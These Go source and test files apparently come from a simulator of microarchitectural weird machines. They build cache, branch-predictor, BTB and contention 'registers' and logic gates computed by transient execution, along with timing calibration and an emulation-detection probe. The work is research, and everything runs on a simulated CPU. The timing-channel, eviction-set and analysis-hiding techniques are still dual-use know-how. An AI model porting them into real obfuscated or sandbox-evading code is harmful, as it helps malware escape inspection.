func (m *Machine) Noise() *noise.Source { return m.ns }

// ReseedNoise repositions the machine's noise stream to the given
// seed. Machines have no Reset — microarchitectural state (caches,
// predictors, the TSC) accumulates for their whole life — but the
// noise stream can be re-pinned, which is what lets a worker pool
// derive per-job sub-seeds: a job's injected noise then depends only
// on its own seed, not on which jobs the machine ran before it.
func (m *Machine) ReseedNoise(seed uint64) { m.ns.Reseed(seed) }

// Threshold returns the calibrated hit/miss timing boundary in cycles
// (the paper's TIMING_THRESHOLD).
func (m *Machine) Threshold() int64 { return m.threshold }

// TrainIterations returns the configured BP-WR training count.
func (m *Machine) TrainIterations() int { return m.opts.TrainIterations }

// nextGateID returns a unique per-machine gate sequence number, used to
// namespace gate symbols and labels.
func (m *Machine) nextGateID() int {
	m.gateSeq++
	return m.gateSeq
}

// halfFrame is half the L2 set period (64 KiB): addresses in the lower
// half of each 64 KiB frame map to L2 sets 0–511, the upper half to
// 512–1023. Code stays in lower halves, data in upper halves, so the
// two can never share an L2 set — see the defaultDataBase comment.
const halfFrame = 32 * 1024

// codeRegion reserves a code region for one gate program and returns
// its base address.
func (m *Machine) codeRegion() mem.Addr {
	return m.codeRegionN(1)
}

// codeRegionN reserves n contiguous code regions (for programs that
// need deliberate long-distance padding, e.g. BTB aliasing). A
// contiguous program must fit in the lower half of a 64 KiB frame to
// preserve the code/data L2-set split; allocations that would cross
// into an upper half skip to the next frame. Programs needing more than
// 32 KiB of truly contiguous code (only the BTB register does, and its
// padding is never executed from the upper halves) opt out via
// codeRegionRaw.
func (m *Machine) codeRegionN(n int) mem.Addr {
	size := mem.Addr(n) * codeRegionSize
	if size > halfFrame {
		panic(fmt.Sprintf("core: contiguous code region of %d bytes exceeds the %d-byte conflict-free half-frame", size, halfFrame))
	}
	base := m.codeNext
	if base%(2*halfFrame)+size > halfFrame {
		base = (base + 2*halfFrame - 1) &^ (2*halfFrame - 1)
	}
	m.codeNext = base + size
	return base
}

// codeRegionRaw reserves contiguous space without the half-frame
// constraint, for programs whose padding regions are never fetched.
func (m *Machine) codeRegionRaw(n int) mem.Addr {
	base := m.codeNext
	m.codeNext += mem.Addr(n) * codeRegionSize
	// Realign the allocator for subsequent constrained callers.
	if m.codeNext%(2*halfFrame) > halfFrame {
		m.codeNext = (m.codeNext + 2*halfFrame - 1) &^ (2*halfFrame - 1)
	}
	return base
}

// evictBase reserves an address range for one gate's eviction set:
// count lines at evictStride spacing aliasing with victim's cache sets.
func (m *Machine) evictBase(victim mem.Symbol, count int, tag string) []mem.Symbol {
	syms := make([]mem.Symbol, count)
	base := m.evictNext
	m.evictNext += mem.Addr((count + 1) * evictStride)
	for i := range syms {
		addr := base + mem.Addr(i*evictStride)
		// Keep the victim's line offset so every line shares its L1D
		// and L2 set index.
		addr = addr&^mem.Addr(evictStride-1) | (victim.Addr & mem.Addr(evictStride-1))
		syms[i] = m.layout.AllocAt(fmt.Sprintf("%s.ev%d", tag, i), addr, mem.LineSize)
	}
	return syms
}

// run executes prog from entry, propagating simulator errors.
func (m *Machine) run(prog *isa.Program, entry string) (cpu.Result, error) {
	return m.cpu.Run(prog, entry)
}

// emitTimedRead publishes a gate's measured read latency on the
// microarchitectural trace plane, tagged with the gate name, output
// index and decoded bit so offline analysis (cmd/uwm-trace) can
// reconstruct per-gate timelines and correlate speculative-window
// lengths with gate outcomes. The text payload is only assembled when a
// live sink is attached, keeping untraced activations allocation-free.
func (m *Machine) emitTimedRead(gate string, out, bit int, delta int64, addr mem.Addr) {
	s := m.cpu.Sink()
	live := trace.Enabled(s)
	if !live && m.healthTap == nil {
		return
	}
	e := trace.Event{
		Kind:  trace.KindTimedRead,
		Cycle: m.cpu.TSC(),
		Addr:  uint64(addr),
		Value: uint64(delta),
		Text:  fmt.Sprintf("gate=%s out=%d bit=%d", gate, out, bit),
	}
	if m.healthTap != nil {
		m.healthTap.Emit(e)
	}
	if live {
		s.Emit(e)
	}
}

// ToBit converts a measured read latency to a logic value: faster than
// the threshold means the line was cached, i.e. logic 1.
func (m *Machine) ToBit(delta int64) int {
	if delta < m.threshold {
		return 1
	}
	return 0
}

// perturbData models unrelated system activity touching one of the
// gate's data lines between pipeline steps: rarely an eviction (1→0) or
// a stray fill (0→1).
func (m *Machine) perturbData(sym mem.Symbol) {
	if m.ns.Evicted() {
		m.cpu.Hierarchy().FlushData(sym.Addr)
	}
	if m.ns.StrayFill() {
		m.cpu.Hierarchy().LoadData(sym.Addr)
	}
}

// perturbCode models the same for a gate's code line.
func (m *Machine) perturbCode(line mem.Addr) {
	if m.ns.Evicted() {
		m.cpu.Hierarchy().FlushInst(line)
	}
	if m.ns.StrayFill() {
		m.cpu.Hierarchy().FetchInst(line)
	}
}

// calibrate measures hit and miss read latencies on a probe line and
// places the logic threshold midway between their medians. Medians make
// the calibration robust to interrupt outliers. The probe line and
// program are allocated on first use and reused on recalibration.
func (m *Machine) calibrate() error {
	if m.calibProg == nil {
		m.calibProbe = m.layout.AllocLine("calib.probe")
		b := isa.NewBuilder(m.codeRegion())
		b.Label("miss").
			Clflush(m.calibProbe, 0).
			Fence().
			Rdtsc(isa.R10).
			Load(isa.R11, m.calibProbe, 0).
			Rdtsc(isa.R12).
			Halt()
		b.Label("hit").
			Load(isa.R11, m.calibProbe, 0).
			Fence().
			Rdtsc(isa.R10).
			Load(isa.R11, m.calibProbe, 0).
			Rdtsc(isa.R12).
			Halt()
		prog, err := b.Build()
		if err != nil {
			return err
		}
		m.calibProg = prog
	}
	const samples = 33
	miss := make([]int64, 0, samples)
	hit := make([]int64, 0, samples)
	for i := 0; i < samples; i++ {
		if _, err := m.run(m.calibProg, "miss"); err != nil {
			return err
		}
		miss = append(miss, int64(m.cpu.Reg(isa.R12)-m.cpu.Reg(isa.R10)))
		if _, err := m.run(m.calibProg, "hit"); err != nil {
			return err
		}
		hit = append(hit, int64(m.cpu.Reg(isa.R12)-m.cpu.Reg(isa.R10)))
	}
	mh := stats.MedianInt64(hit)
	mm := stats.MedianInt64(miss)
	if mh >= mm {
		return fmt.Errorf("core: calibration found no timing gap (hit=%d miss=%d)", mh, mm)
	}
	m.threshold = (mh + mm) / 2
	m.calibCount++
	e := trace.Event{
		Kind:  trace.KindCalibration,
		Cycle: m.cpu.TSC(),
		Value: uint64(m.threshold),
		Text:  fmt.Sprintf("hit=%d miss=%d n=%d", mh, mm, m.calibCount),
	}
	if m.healthTap != nil {
		m.healthTap.Emit(e)
	}
	if s := m.cpu.Sink(); trace.Enabled(s) {
		s.Emit(e)
	}
	return nil
}

// Recalibrate re-runs the timing calibration in place, repositioning the
// hit/miss threshold to the machine's current behaviour — the recovery
// action a health monitor takes when the margin distribution has drifted.
//
// Determinism contract: the calibration runs are pinned to the machine's
// original seed (so a recalibration draws exactly the noise the initial
// calibration drew) and the noise stream's position is restored
// afterwards, so callers that reseed per job (the engine's sub-seed
// scheme) observe no perturbation of subsequent noise.
func (m *Machine) Recalibrate() error {
	saved := m.ns.RNG().State()
	m.ns.Reseed(m.opts.Seed)
	err := m.calibrate()
	m.ns.RNG().SetState(saved)
	if err != nil {
		return fmt.Errorf("core: recalibration failed: %w", err)
	}
	m.reg.Gauge(MetricThreshold, "calibrated hit/miss timing boundary in cycles").
		Set(float64(m.threshold))
	m.reg.Counter(MetricRecalibrations, "threshold recalibrations after initial calibration").Inc()
	return nil
}

// Calibrations returns how many times the machine has calibrated its
// threshold, including the initial calibration at construction.
func (m *Machine) Calibrations() int64 { return m.calibCount }

// readDelta extracts the timed-read latency convention shared by all
// gate read sections: R12 and R10 hold the two timestamps.
func (m *Machine) readDelta() int64 {
	return int64(m.cpu.Reg(isa.R12) - m.cpu.Reg(isa.R10))
}
