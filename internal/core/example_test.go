package core_test

import (
	"fmt"

	"uwm/internal/core"
)

// ExampleNewTSXAnd shows the minimal weird-gate workflow: build a
// machine, build a gate, run its truth table. The AND below is computed
// by a race between a transient load chain and a transaction abort —
// no architectural AND instruction executes.
func ExampleNewTSXAnd() {
	m := core.MustNewMachine(core.Options{Seed: 1}) // quiet, deterministic
	g, err := core.NewTSXAnd(m)
	if err != nil {
		panic(err)
	}
	for _, in := range [][2]int{{0, 0}, {0, 1}, {1, 0}, {1, 1}} {
		out, err := g.Run(in[0], in[1])
		if err != nil {
			panic(err)
		}
		fmt.Printf("AND(%d,%d) = %d\n", in[0], in[1], out[0])
	}
	// Output:
	// AND(0,0) = 0
	// AND(0,1) = 0
	// AND(1,0) = 0
	// AND(1,1) = 1
}

// ExampleCompileCircuit builds a full adder as one contiguous weird
// circuit: a chain of aborting transactions whose intermediate values
// exist only in the data cache.
func ExampleCompileCircuit() {
	m := core.MustNewMachine(core.Options{Seed: 2})
	spec := core.NewCircuitSpec(3) // a, b, carry-in
	xab := spec.Xor(0, 1)
	spec.Output(spec.Xor(xab, 2))                          // sum
	spec.Output(spec.Or(spec.And(0, 1), spec.And(2, xab))) // carry
	c, err := core.CompileCircuit(m, spec)
	if err != nil {
		panic(err)
	}
	out, err := c.Run(1, 0, 1) // 1+0+1
	if err != nil {
		panic(err)
	}
	fmt.Printf("sum=%d carry=%d (over %d chained transactions)\n", out[0], out[1], c.Transactions())
	// Output:
	// sum=0 carry=1 (over 11 chained transactions)
}

// ExampleDetectEmulation shows the §2.1 probe: computation that only
// works where transient execution exists.
func ExampleDetectEmulation() {
	m := core.MustNewMachine(core.Options{Seed: 3})
	v, err := core.DetectEmulation(m, 8)
	if err != nil {
		panic(err)
	}
	fmt.Println(v.RealHardware)
	// Output:
	// true
}
