package core

import (
	"fmt"

	"uwm/internal/isa"
	"uwm/internal/mem"
	"uwm/internal/stats"
)

// Weird registers (paper §3.1, Table 1): storage entities implemented
// in microarchitectural state. Each register is a small multi-entry
// program; Write drives the resource into one of two states and Read
// times an operation whose latency depends on that state.
//
// Reads are invasive (they disturb the stored state) and some registers
// are volatile (their value decays within hundreds of cycles) — both
// properties the paper lists, and both covered by tests.

// WeirdRegister is the common surface of all Table 1 registers.
type WeirdRegister interface {
	// Name identifies the backing microarchitectural resource.
	Name() string
	// Write drives the resource into the state encoding bit.
	Write(bit int) error
	// Read recovers the stored bit by timing; it may destroy or
	// perturb the stored state.
	Read() (int, error)
	// ReadRaw returns the raw measured latency alongside the bit.
	ReadRaw() (int, int64, error)
}

// wrBase carries the pieces every register implementation shares.
type wrBase struct {
	m         *Machine
	name      string
	prog      *isa.Program
	threshold int64
	// fastIsOne reports whether a fast read means logic 1.
	fastIsOne bool
}

// Name implements WeirdRegister.
func (w *wrBase) Name() string { return w.name }

// ReadRaw runs the register's read entry and classifies the latency.
func (w *wrBase) ReadRaw() (int, int64, error) {
	if _, err := w.m.run(w.prog, "read"); err != nil {
		return 0, 0, err
	}
	d := w.m.readDelta()
	bit := 0
	if (d < w.threshold) == w.fastIsOne {
		bit = 1
	}
	return bit, d, nil
}

// Read implements WeirdRegister.
func (w *wrBase) Read() (int, error) {
	bit, _, err := w.ReadRaw()
	return bit, err
}

// calibrateWR measures the read latency in both written states and sets
// the threshold midway between the medians. write drives the state,
// read samples it.
func (w *wrBase) calibrateWR(write func(int) error) error {
	const samples = 17
	var lo, hi []int64
	for _, bit := range []int{0, 1} {
		for i := 0; i < samples; i++ {
			if err := write(bit); err != nil {
				return err
			}
			if _, err := w.m.run(w.prog, "read"); err != nil {
				return err
			}
			d := w.m.readDelta()
			if bit == 0 {
				lo = append(lo, d)
			} else {
				hi = append(hi, d)
			}
		}
	}
	m0, m1 := stats.MedianInt64(lo), stats.MedianInt64(hi)
	if m0 == m1 {
		return fmt.Errorf("core: %s calibration found no timing gap (both %d)", w.name, m0)
	}
	w.threshold = (m0 + m1) / 2
	w.fastIsOne = m1 < m0
	return nil
}

// DCWR is the data-cache weird register of §3.1: the bit is the L1
// residency of one line; write 1 loads it, write 0 clflushes it, read
// times a load (which also sets the state to 1 — reading is invasive).
type DCWR struct {
	wrBase
	sym mem.Symbol
}

// NewDCWR builds a data-cache weird register.
func NewDCWR(m *Machine) (*DCWR, error) {
	id := m.nextGateID()
	sym := m.layout.AllocLine(fmt.Sprintf("wr%d.dc", id))
	b := isa.NewBuilder(m.codeRegion())
	b.Label("w1").Load(isa.R3, sym, 0).Fence().Halt()
	b.Label("w0").Clflush(sym, 0).Fence().Halt()
	b.Label("read").Rdtsc(isa.R10).Load(isa.R11, sym, 0).Rdtsc(isa.R12).Halt()
	prog, err := b.Build()
	if err != nil {
		return nil, err
	}
	r := &DCWR{wrBase: wrBase{m: m, name: "d-cache", prog: prog}, sym: sym}
	if err := r.calibrateWR(r.Write); err != nil {
		return nil, err
	}
	return r, nil
}

// Write implements WeirdRegister.
func (r *DCWR) Write(bit int) error {
	entry := "w0"
	if bit != 0 {
		entry = "w1"
	}
	_, err := r.m.run(r.prog, entry)
	return err
}

// Symbol exposes the backing line for circuit composition.
func (r *DCWR) Symbol() mem.Symbol { return r.sym }

// ICWR is the instruction-cache weird register: the bit is the L1I
// residency of a code line; write 1 executes the code, write 0 flushes
// it, read times its execution.
type ICWR struct {
	wrBase
}

// NewICWR builds an instruction-cache weird register.
func NewICWR(m *Machine) (*ICWR, error) {
	b := isa.NewBuilder(m.codeRegion())
	b.Label("w0").ClflushCode("body").Fence().Halt()
	b.Label("read").Rdtsc(isa.R10).Jmp("body")
	b.AlignLine()
	b.Label("body")
	for i := 0; i < 13; i++ {
		b.Nop()
	}
	b.Rdtsc(isa.R12).Halt()
	prog, err := b.Build()
	if err != nil {
		return nil, err
	}
	r := &ICWR{wrBase: wrBase{m: m, name: "i-cache", prog: prog}}
	if err := r.calibrateWR(r.Write); err != nil {
		return nil, err
	}
	return r, nil
}

// Write implements WeirdRegister: executing the body is the write-1
// (reading is the same operation, so Read also writes 1).
func (r *ICWR) Write(bit int) error {
	entry := "w0"
	if bit != 0 {
		entry = "read" // call code = cache it
	}
	_, err := r.m.run(r.prog, entry)
	return err
}

// BPWR is the branch-direction-predictor weird register: the bit is the
// trained direction of one conditional branch; read executes the branch
// not-taken and times it — a misprediction costs the refill penalty.
type BPWR struct {
	wrBase
}

// NewBPWR builds a direction-predictor weird register.
func NewBPWR(m *Machine) (*BPWR, error) {
	b := isa.NewBuilder(m.codeRegion())
	// Training entries execute the branch with the desired direction.
	b.Label("w0").MovI(isa.R1, 0).Jmp("br") // taken (skip): logic 0
	b.Label("w1").MovI(isa.R1, 1).Jmp("br") // not taken: logic 1
	b.Label("read").MovI(isa.R1, 1).Rdtsc(isa.R10).Jmp("br")
	b.Label("br").Brz(isa.R1, "out")
	b.Label("fall").Rdtsc(isa.R12).Halt()
	b.Label("out").Rdtsc(isa.R12).Halt()
	prog, err := b.Build()
	if err != nil {
		return nil, err
	}
	r := &BPWR{wrBase: wrBase{m: m, name: "branch-predictor", prog: prog}}
	if err := r.calibrateWR(r.Write); err != nil {
		return nil, err
	}
	return r, nil
}

// Write implements WeirdRegister: train the branch TrainIterations
// times in the desired direction.
func (r *BPWR) Write(bit int) error {
	entry := "w0"
	if bit != 0 {
		entry = "w1"
	}
	for i := 0; i < r.m.TrainIterations(); i++ {
		if _, err := r.m.run(r.prog, entry); err != nil {
			return err
		}
	}
	return nil
}

// BTBWR is the branch-target-buffer weird register of Table 1: two
// unconditional jumps at BTB-aliasing addresses share one entry; which
// target the entry holds is the bit, read as the redirect latency of
// the first jump.
type BTBWR struct {
	wrBase
}

// NewBTBWR builds a BTB weird register.
func NewBTBWR(m *Machine) (*BTBWR, error) {
	btbEntries := m.cpu.Config().BTBSize
	base := m.codeRegionN(2 * btbEntries * isa.InstBytes / codeRegionSize)
	b := isa.NewBuilder(base)
	// Jump A→B at the region base; its alias A'→C exactly one BTB
	// period later shares the predictor entry.
	b.Label("jmpA").Jmp("targetB")
	b.Label("targetB").Halt()
	b.Label("read").Rdtsc(isa.R10).Jmp("jmpA2") // aliased site drives timing below
	b.PadTo(base + mem.Addr(btbEntries*isa.InstBytes))
	b.Label("jmpA2").Jmp("targetC")
	b.Label("targetC").Rdtsc(isa.R12).Halt()
	prog, err := b.Build()
	if err != nil {
		return nil, err
	}
	r := &BTBWR{wrBase: wrBase{m: m, name: "btb", prog: prog}}
	if err := r.calibrateWR(r.Write); err != nil {
		return nil, err
	}
	return r, nil
}

// Write implements WeirdRegister: executing one of the aliased jumps
// installs its target in the shared BTB entry.
func (r *BTBWR) Write(bit int) error {
	entry := "jmpA" // installs target B: the aliased read will miss
	if bit != 0 {
		entry = "jmpA2" // installs target C: the read predicts right
	}
	_, err := r.m.run(r.prog, entry)
	return err
}

// MulWR is the multiply-unit contention register of Table 1: write 1
// executes a burst of multiplies, raising unit pressure; read times a
// single multiply. It is volatile — pressure decays within a few
// hundred cycles (§3.1's volatility property).
type MulWR struct {
	wrBase
}

// NewMulWR builds a multiplier-contention weird register.
func NewMulWR(m *Machine) (*MulWR, error) {
	b := isa.NewBuilder(m.codeRegion())
	b.Label("w1").MovI(isa.R4, 3).MovI(isa.R5, 5)
	for i := 0; i < 32; i++ {
		b.Mul(isa.R3, isa.R4, isa.R5)
	}
	b.Halt()
	b.Label("w0")
	for i := 0; i < 32; i++ {
		b.Nop()
	}
	b.Halt()
	b.Label("idle")
	for i := 0; i < 250; i++ {
		b.Nop()
	}
	b.Halt()
	b.Label("read").
		MovI(isa.R4, 3).
		MovI(isa.R5, 5).
		Fence().
		Rdtsc(isa.R10).
		Mul(isa.R11, isa.R4, isa.R5).
		Rdtsc(isa.R12).
		Halt()
	prog, err := b.Build()
	if err != nil {
		return nil, err
	}
	r := &MulWR{wrBase: wrBase{m: m, name: "mul-contention", prog: prog}}
	if err := r.calibrateWR(r.Write); err != nil {
		return nil, err
	}
	return r, nil
}

// Write implements WeirdRegister.
func (r *MulWR) Write(bit int) error {
	entry := "w0"
	if bit != 0 {
		entry = "w1"
	}
	_, err := r.m.run(r.prog, entry)
	return err
}

// Idle burns a few hundred cycles without touching the multiply unit,
// letting tests observe the register's decay.
func (r *MulWR) Idle() error {
	_, err := r.m.run(r.prog, "idle")
	return err
}

// ROBWR is the reorder-buffer contention register of Table 1: write 1
// executes a long dependency chain that fills the ROB with waiting
// entries; read times a short burst of independent instructions, which
// stalls while the pressure persists. Volatile like MulWR.
type ROBWR struct {
	wrBase
}

// NewROBWR builds a ROB-contention weird register.
func NewROBWR(m *Machine) (*ROBWR, error) {
	b := isa.NewBuilder(m.codeRegion())
	b.Label("w1").MovI(isa.R3, 1)
	for i := 0; i < 192; i++ {
		b.AddI(isa.R3, isa.R3, 1) // dependent chain: each waits for the last
	}
	b.Halt()
	b.Label("w0")
	for i := 0; i < 64; i++ {
		b.Nop()
	}
	b.Halt()
	b.Label("idle")
	for i := 0; i < 250; i++ {
		b.Nop()
	}
	b.Halt()
	b.Label("read").Rdtsc(isa.R10)
	for i := 0; i < 10; i++ {
		b.MovI(isa.Reg(uint8(isa.R3)+uint8(i%4)), int64(i))
	}
	b.Rdtsc(isa.R12).Halt()
	prog, err := b.Build()
	if err != nil {
		return nil, err
	}
	r := &ROBWR{wrBase: wrBase{m: m, name: "rob-contention", prog: prog}}
	if err := r.calibrateWR(r.Write); err != nil {
		return nil, err
	}
	return r, nil
}

// Write implements WeirdRegister.
func (r *ROBWR) Write(bit int) error {
	entry := "w0"
	if bit != 0 {
		entry = "w1"
	}
	_, err := r.m.run(r.prog, entry)
	return err
}

// Idle burns cycles so tests can observe decay.
func (r *ROBWR) Idle() error {
	_, err := r.m.run(r.prog, "idle")
	return err
}

// Compile-time interface checks.
var (
	_ WeirdRegister = (*DCWR)(nil)
	_ WeirdRegister = (*ICWR)(nil)
	_ WeirdRegister = (*BPWR)(nil)
	_ WeirdRegister = (*BTBWR)(nil)
	_ WeirdRegister = (*MulWR)(nil)
	_ WeirdRegister = (*ROBWR)(nil)
)
