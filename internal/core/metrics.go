package core

import "uwm/internal/metrics"

// Metric series exported by the weird-machine layer. Gate series carry
// a "gate" label (AND, OR, …) and a "family" label (bp or tsx).
const (
	MetricThreshold      = "uwm_machine_threshold_cycles"
	MetricRecalibrations = "uwm_machine_recalibrations_total"
	MetricGateFires      = "uwm_gate_fires_total"
	MetricGateOps        = "uwm_gate_ops_total"
	MetricGateCorrect    = "uwm_gate_correct_total"
	MetricGateRead       = "uwm_gate_read_cycles"
)

// Metrics returns the registry attached via Options.Metrics, possibly
// nil. A nil registry hands out nil (disabled) instruments, so callers
// need not guard.
func (m *Machine) Metrics() *metrics.Registry { return m.reg }

// gateInstruments returns the fire counter and read-latency histogram
// for one gate. Both are nil (free) on an uninstrumented machine; two
// gates of the same name share one series.
func (m *Machine) gateInstruments(gate, family string) (*metrics.Counter, *metrics.Histogram) {
	labels := []metrics.Label{metrics.L("gate", gate), metrics.L("family", family)}
	fires := m.reg.Counter(MetricGateFires, "weird gate activations", labels...)
	read := m.reg.Histogram(MetricGateRead, "timed output-read latency in cycles",
		metrics.DefaultLatencyBuckets(), labels...)
	return fires, read
}

// accuracyInstruments returns the measured-operations and correct
// counters backing the accuracy reports.
func (m *Machine) accuracyInstruments(gate, family string) (ops, correct *metrics.Counter) {
	labels := []metrics.Label{metrics.L("gate", gate), metrics.L("family", family)}
	ops = m.reg.Counter(MetricGateOps, "scored gate operations", labels...)
	correct = m.reg.Counter(MetricGateCorrect, "scored gate operations matching the truth table", labels...)
	return ops, correct
}
