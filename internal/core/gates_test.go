package core

import (
	"testing"

	"uwm/internal/isa"
	"uwm/internal/noise"
)

// quiet returns a deterministic machine for truth-table tests.
func quiet(t *testing.T) *Machine {
	t.Helper()
	m, err := NewMachine(Options{Seed: 42, TrainIterations: 4})
	if err != nil {
		t.Fatalf("NewMachine: %v", err)
	}
	return m
}

func TestCalibrationThreshold(t *testing.T) {
	m := quiet(t)
	th := m.Threshold()
	if th < 40 || th > 200 {
		t.Fatalf("threshold %d outside plausible hit/miss gap", th)
	}
}

func combos(arity int) [][]int {
	out := make([][]int, 0, 1<<arity)
	for c := 0; c < 1<<arity; c++ {
		in := make([]int, arity)
		for j := range in {
			in[j] = (c >> j) & 1
		}
		out = append(out, in)
	}
	return out
}

func testBPGateTruth(t *testing.T, build func(*Machine) (*BPGate, error)) {
	t.Helper()
	m := quiet(t)
	g, err := build(m)
	if err != nil {
		t.Fatalf("build: %v", err)
	}
	for _, in := range combos(g.Arity()) {
		// Repeat each combination to exercise persistent predictor and
		// cache state between activations.
		for rep := 0; rep < 3; rep++ {
			got, err := g.Run(in...)
			if err != nil {
				t.Fatalf("%s%v run %d: %v", g.Name(), in, rep, err)
			}
			if want := g.Golden(in); got != want {
				t.Errorf("%s%v rep %d = %d, want %d", g.Name(), in, rep, got, want)
			}
		}
	}
}

func TestBPAndTruthTable(t *testing.T)      { testBPGateTruth(t, NewBPAnd) }
func TestBPOrTruthTable(t *testing.T)       { testBPGateTruth(t, NewBPOr) }
func TestBPNandTruthTable(t *testing.T)     { testBPGateTruth(t, NewBPNand) }
func TestBPAndAndOrTruthTable(t *testing.T) { testBPGateTruth(t, NewBPAndAndOr) }

func testTSXGateTruth(t *testing.T, build func(*Machine) (*TSXGate, error)) {
	t.Helper()
	m := quiet(t)
	g, err := build(m)
	if err != nil {
		t.Fatalf("build: %v", err)
	}
	for _, in := range combos(g.Arity()) {
		for rep := 0; rep < 3; rep++ {
			got, err := g.Run(in...)
			if err != nil {
				t.Fatalf("%s%v run %d: %v", g.Name(), in, rep, err)
			}
			want := g.Golden(in)
			for k := range want {
				if got[k] != want[k] {
					t.Errorf("%s%v rep %d out[%d] = %d, want %d", g.Name(), in, rep, k, got[k], want[k])
				}
			}
		}
	}
}

func TestTSXAssignTruthTable(t *testing.T) { testTSXGateTruth(t, NewTSXAssign) }
func TestTSXAndTruthTable(t *testing.T)    { testTSXGateTruth(t, NewTSXAnd) }
func TestTSXOrTruthTable(t *testing.T)     { testTSXGateTruth(t, NewTSXOr) }
func TestTSXAndOrTruthTable(t *testing.T)  { testTSXGateTruth(t, NewTSXAndOr) }
func TestTSXNotTruthTable(t *testing.T)    { testTSXGateTruth(t, NewTSXNot) }
func TestTSXXorTruthTable(t *testing.T)    { testTSXGateTruth(t, NewTSXXor) }

// TestGatesShareMachine builds every gate on one machine and checks they
// do not corrupt each other — the precondition for circuits.
func TestGatesShareMachine(t *testing.T) {
	m := quiet(t)
	and, err := NewBPAnd(m)
	if err != nil {
		t.Fatal(err)
	}
	xor, err := NewTSXXor(m)
	if err != nil {
		t.Fatal(err)
	}
	nand, err := NewBPNand(m)
	if err != nil {
		t.Fatal(err)
	}
	for _, in := range combos(2) {
		a, err := and.Run(in...)
		if err != nil {
			t.Fatal(err)
		}
		x, err := xor.Run(in...)
		if err != nil {
			t.Fatal(err)
		}
		n, err := nand.Run(in...)
		if err != nil {
			t.Fatal(err)
		}
		if a != in[0]&in[1] || x[0] != in[0]^in[1] || n != 1-in[0]&in[1] {
			t.Errorf("in=%v: and=%d xor=%d nand=%d", in, a, x[0], n)
		}
	}
}

// TestFireSectionsArchitecturallyInvisible verifies the paper's central
// claim mechanically: no gate's fire section contains an architectural
// boolean instruction computing its logic.
func TestFireSectionsArchitecturallyInvisible(t *testing.T) {
	m := quiet(t)
	bpAnd, _ := NewBPAnd(m)
	bpOr, _ := NewBPOr(m)
	bpNand, _ := NewBPNand(m)
	tAnd, _ := NewTSXAnd(m)
	tOr, _ := NewTSXOr(m)
	tXor, _ := NewTSXXor(m)

	for _, op := range []isa.Op{isa.AND, isa.OR, isa.XOR} {
		for _, g := range []interface{ FireUses(isa.Op) bool }{bpAnd, bpOr, bpNand, tAnd, tOr, tXor} {
			if g.(interface{ Name() string }).Name() != "" && g.FireUses(op) {
				t.Errorf("%v fire section uses architectural %v", g.(interface{ Name() string }).Name(), op)
			}
		}
	}
}

// TestNoisyAccuracyBands runs gates under the paper noise profile and
// checks accuracy lands in the reported bands: near-perfect for BP/IC
// gates (Table 5), 0.90–0.995 for TSX gates (Table 8).
func TestNoisyAccuracyBands(t *testing.T) {
	if testing.Short() {
		t.Skip("accuracy bands need thousands of activations")
	}
	m, err := NewMachine(Options{Seed: 7, Noise: noise.Paper(), TrainIterations: 4})
	if err != nil {
		t.Fatal(err)
	}
	rng := noise.NewRNG(99)

	and, _ := NewBPAnd(m)
	rep, err := MeasureBPGate(and, 2000, rng)
	if err != nil {
		t.Fatal(err)
	}
	if rep.Accuracy() < 0.995 {
		t.Errorf("BP AND accuracy %.4f below 0.995", rep.Accuracy())
	}

	txor, _ := NewTSXXor(m)
	rep2, err := MeasureTSXGate(txor, 2000, rng)
	if err != nil {
		t.Fatal(err)
	}
	if rep2.Accuracy() < 0.85 || rep2.Accuracy() > 0.99 {
		t.Errorf("TSX XOR accuracy %.4f outside (0.85, 0.99)", rep2.Accuracy())
	}

	tand, _ := NewTSXAnd(m)
	rep3, err := MeasureTSXGate(tand, 2000, rng)
	if err != nil {
		t.Fatal(err)
	}
	if rep3.Accuracy() < 0.95 {
		t.Errorf("TSX AND accuracy %.4f below 0.95", rep3.Accuracy())
	}
	if rep3.Accuracy() <= rep2.Accuracy() {
		t.Errorf("TSX AND (%.4f) should beat multi-window XOR (%.4f)", rep3.Accuracy(), rep2.Accuracy())
	}
}
