package core

import (
	"fmt"

	"uwm/internal/isa"
	"uwm/internal/mem"
	"uwm/internal/metrics"
)

// The branch-predictor / instruction-cache gate family (paper §3.2,
// Figures 1 and 2). Each gate is a program with several entry points,
// run in sequence per activation:
//
//	train{i}_t / train{i}_nt — write the block's BP-WR by executing the
//	    gate's own branch with the desired direction (the paper's
//	    train_bp_t/train_bp_nt);
//	touch{i} / flushb{i}     — write the block's IC-WR by executing or
//	    clflushing the speculative body;
//	prep                     — reset outputs: flush (or pre-cache, for
//	    eviction gates) the output DC-WR and flush the branch-condition
//	    lines so the fire branch resolves slowly;
//	fire                     — execute the gate: the branch mispredicts
//	    (if the BP-WR holds 1), opening a speculative window whose
//	    length is the condition's DRAM latency; the body executes
//	    transiently only if its code is in the instruction cache;
//	read                     — timed load of the output DC-WR.
//
// The output value is computed by the microarchitecture alone: the fire
// section contains no architectural boolean instruction, and the store
// that sets the output line never commits.

// trainDir is a BP-WR write direction.
type trainDir bool

const (
	trainTaken    trainDir = false // predict taken: skip body, logic 0
	trainNotTaken trainDir = true  // predict not-taken: speculate into body, logic 1
)

// icMode is an IC-WR write mode for one speculative body.
type icMode int

const (
	icFlushed icMode = iota // logic 0: body cold, window too short to fetch it
	icCached                // logic 1: body hot, executes transiently
	icAlways                // block's IC-WR is not an input; keep hot
)

// bpBlockSpec describes one speculative block of a BP gate.
type bpBlockSpec struct {
	// evict selects an eviction-set body (loads that push the output
	// line out of the hierarchy) instead of a store body.
	evict bool
}

// bpWiring maps gate inputs to per-block WR writes.
type bpWiring func(in []int) (train []trainDir, ic []icMode)

// BPGate is a weird gate of the branch-predictor/instruction-cache
// family.
type BPGate struct {
	m         *Machine
	name      string
	arity     int
	prog      *isa.Program
	out       mem.Symbol
	brd       []mem.Symbol
	bodyLines []mem.Addr
	blocks    []bpBlockSpec
	prepCache bool // prep pre-caches the output (eviction gates)
	wire      bpWiring
	truth     func(in []int) int
	// Cached per-block entry labels, so activations allocate nothing.
	trainT, trainNT, touch, flushB []string
	// span is the pre-built profiling frame name ("gate:AND").
	span string

	fires   *metrics.Counter
	readLat *metrics.Histogram
}

// Name returns the gate's name.
func (g *BPGate) Name() string { return g.name }

// Arity returns the number of logical inputs.
func (g *BPGate) Arity() int { return g.arity }

// Program exposes the gate's assembled program, e.g. for disassembly.
func (g *BPGate) Program() *isa.Program { return g.prog }

// FireUses reports whether the fire section uses the given opcode —
// the architectural-invisibility check.
func (g *BPGate) FireUses(op isa.Op) bool {
	from := g.prog.MustEntry("fire")
	to := g.prog.MustEntry("read")
	return g.prog.Uses(op, from, to)
}

